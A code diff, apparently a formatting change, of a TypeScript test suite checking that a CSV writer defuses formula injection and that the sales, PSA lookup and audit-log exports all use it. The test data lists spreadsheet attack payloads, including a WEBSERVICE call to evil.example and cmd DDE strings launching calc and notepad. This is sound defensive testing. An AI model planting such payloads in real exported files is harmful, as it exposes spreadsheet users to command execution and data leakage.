@@ -14,15 +14,15 @@ describe('security: the CSV writer neutralises formulas (OWASP CSV injection)', 
     '+1+1',
     '-1+1',
     '-2+3+WEBSERVICE("http://evil.example/")',
-    '+2-3+cmd|\' /C calc\'!A0',
-    '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    "+2-3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
     '\t=1+1',
     '\r=1+1',
     '\n=1+1',
     '=1+1\nsecond line',
     ' =1+1',
     '  @SUM(A1)',
-    '=cmd|\' /C notepad\'!\'A1\'',
+    "=cmd|' /C notepad'!'A1'",
     '-',
     '+',
   ];
@@ -31,7 +31,7 @@ describe('security: the CSV writer neutralises formulas (OWASP CSV injection)', 
     expect(cell(attack)).toBe(`'${attack}`);
   });
 
-  it('papaparse 5.5.3\'s own default pattern misses some of them (why the writer has its own)', () => {
+  it("papaparse 5.5.3's own default pattern misses some of them (why the writer has its own)", () => {
     const papaDefault = /^[=+\-@\t\r].*$/;
     expect(papaDefault.test('=1+1\nsecond line')).toBe(false);
     expect(papaDefault.test('\n=1+1')).toBe(false);
@@ -49,9 +49,16 @@ describe('security: the CSV writer neutralises formulas (OWASP CSV injection)', 
   });
 
   it('quotes per RFC 4180, joins lines with CRLF and ends with one', () => {
-    expect(toCsv(['cert', 'subject'], [['123', 'Jordan, Michael'], ['456', null], ['789', 'the "Mick"\nline two']])).toBe(
-      'cert,subject\r\n123,"Jordan, Michael"\r\n456,\r\n789,"the ""Mick""\nline two"\r\n',
-    );
+    expect(
+      toCsv(
+        ['cert', 'subject'],
+        [
+          ['123', 'Jordan, Michael'],
+          ['456', null],
+          ['789', 'the "Mick"\nline two'],
+        ],
+      ),
+    ).toBe('cert,subject\r\n123,"Jordan, Michael"\r\n456,\r\n789,"the ""Mick""\nline two"\r\n');
     expect(toCsv(['a', '=b'], [])).toBe(`a,"'=b"\r\n`);
   });
 });
@@ -59,22 +66,33 @@ describe('security: the CSV writer neutralises formulas (OWASP CSV injection)', 
 describe('security: every CSV export goes through the one writer', () => {
   const root = join(import.meta.dirname, '..');
   const files = (dir: string): string[] =>
-    readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? files(join(dir, e.name)) : /\.tsx?$/.test(e.name) && !/\.test\.tsx?$/.test(e.name) ? [join(dir, e.name)] : []));
+    readdirSync(dir, { withFileTypes: true }).flatMap((e) =>
+      e.isDirectory() ? files(join(dir, e.name)) : /\.tsx?$/.test(e.name) && !/\.test\.tsx?$/.test(e.name) ? [join(dir, e.name)] : [],
+    );
   const sources = files(root).map((f) => ({ path: relative(root, f), text: readFileSync(f, 'utf8') }));
 
   it('nothing but src/common/csv.ts writes CSV with papaparse or by hand', () => {
-    const writers = sources.filter((s) => s.path !== join('common', 'csv.ts') && /\bunparse\b|escapeFormulae|\.join\(['"],['"]\)\)\.join\(/.test(s.text)).map((s) => s.path);
+    const writers = sources
+      .filter((s) => s.path !== join('common', 'csv.ts') && /\bunparse\b|escapeFormulae|\.join\(['"],['"]\)\)\.join\(/.test(s.text))
+      .map((s) => s.path);
     expect(writers).toEqual([]);
   });
 
   it('each export (sales, PSA lookup results, audit log) builds its file with toCsv from #common/csv.ts', () => {
-    const exporters = ['server/modules/marketplace/sales.service.ts', 'web/features/admin-cards/psa-results.ts', 'web/features/admin-audit/audit-csv.ts'];
+    const exporters = [
+      'server/modules/marketplace/sales.service.ts',
+      'web/features/admin-cards/psa-results.ts',
+      'web/features/admin-audit/audit-csv.ts',
+    ];
     for (const path of exporters) {
       const text = sources.find((s) => s.path === path)?.text ?? '';
       expect(text, path).toMatch(/import \{[^}]*\btoCsv\b[^}]*\} from '#common\/csv\.ts'/);
     }
     // Whatever serves or downloads a CSV is one of those (or the download helper they share).
-    const csvOut = sources.filter((s) => /text\/csv/.test(s.text) && !/accept=/.test(s.text)).map((s) => s.path).sort();
+    const csvOut = sources
+      .filter((s) => /text\/csv/.test(s.text) && !/accept=/.test(s.text))
+      .map((s) => s.path)
+      .sort();
     expect(csvOut).toEqual(['server/modules/marketplace/marketplace.routes.ts', 'web/lib/download.ts']);
   });
 });
